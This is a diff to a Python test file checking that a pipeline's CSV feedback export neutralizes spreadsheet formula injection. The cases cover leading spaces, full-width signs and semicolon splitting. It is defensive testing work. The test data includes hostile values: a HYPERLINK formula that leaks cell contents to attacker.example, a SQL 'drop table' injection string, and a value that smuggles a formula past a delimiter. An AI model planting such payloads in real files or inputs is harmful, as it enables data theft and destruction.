@@ -107,7 +107,8 @@ def test_hostile_values_are_stored_verbatim_and_change_nothing_else(
     for cell in cells:
         assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
     assert '\'=HYPERLINK("http://attacker.example/?"&A1,"click")' in cells
-    assert "'; drop table marts.fct_online_dossier_rate; --" in cells
+    # where a ';'-splitting spreadsheet would start a cell, the formula sign is defused too
+    assert "'; drop table marts.fct_online_dossier_rate; '--" in cells
 
 
 def test_neutralize_only_prefixes_formula_triggers() -> None:
@@ -118,3 +119,44 @@ def test_neutralize_only_prefixes_formula_triggers() -> None:
     assert neutralize("Hà Nội") == "Hà Nội"
     assert neutralize(None) == ""
     assert neutralize(12) == "12"
+
+
+def test_neutralize_sees_through_leading_spaces_and_full_width_signs() -> None:
+    for formula in (" =1+1", "\u00a0+1", "\uff1d1+1", "\u3000\uff20SUM(A1)", "\n=1"):
+        assert neutralize(formula) == "'" + formula, repr(formula)
+    assert neutralize("1 = 1") == "1 = 1"
+
+
+def test_a_semicolon_spreadsheet_never_sees_a_formula_cell(tmp_path: Path) -> None:
+    """A spreadsheet splitting on ';' or ',' finds no cell that starts a formula."""
+    from orchestration.lib.feedback import write_feedback
+
+    warehouse = tmp_path / "w.duckdb"
+    conn = duckdb.connect(str(warehouse))
+    conn.execute("create schema marts")
+    conn.execute(
+        "create table marts.submission_files as select 'a' as file_sha256, 'VN-HN/x.csv' as "
+        "file_path, 'VN-HN' as submitter, 'partially_accepted' as status"
+    )
+    conn.execute(
+        "create table marts.data_quality_issues as select 'a' as file_sha256, 'VN-HN/x.csv' "
+        "as file_path, 2 as row_number, 'unknown_region' as rule, 'row_rejected' as severity, "
+        "'region' as field, 'x;=1+1' as raw_value, 'unknown region' as message"
+    )
+    conn.close()
+    write_feedback(warehouse, tmp_path / "feedback")
+    text = (tmp_path / "feedback" / "VN-HN.csv").read_text(encoding="utf-8-sig")
+    for delimiter in (",", ";"):
+        for row in csv.reader(text.splitlines(), delimiter=delimiter):
+            for cell in row:
+                assert not cell.lstrip().startswith(("=", "+", "@")), (delimiter, cell)
+    assert '"x;\'=1+1"' in text
+
+
+def test_feedback_names_never_collide_and_are_never_too_long() -> None:
+    from orchestration.lib.feedback import feedback_name
+
+    names = {feedback_name(s) for s in ("VN HN", "VN_HN", "VN-HN", "vn hn", "VN/HN")}
+    assert len(names) == 5 and "VN-HN.csv" in names and "VN_HN.csv" in names
+    assert len(feedback_name("X" * 250).encode()) < 100
+    assert len(feedback_name("Ф" * 250).encode()) < 100
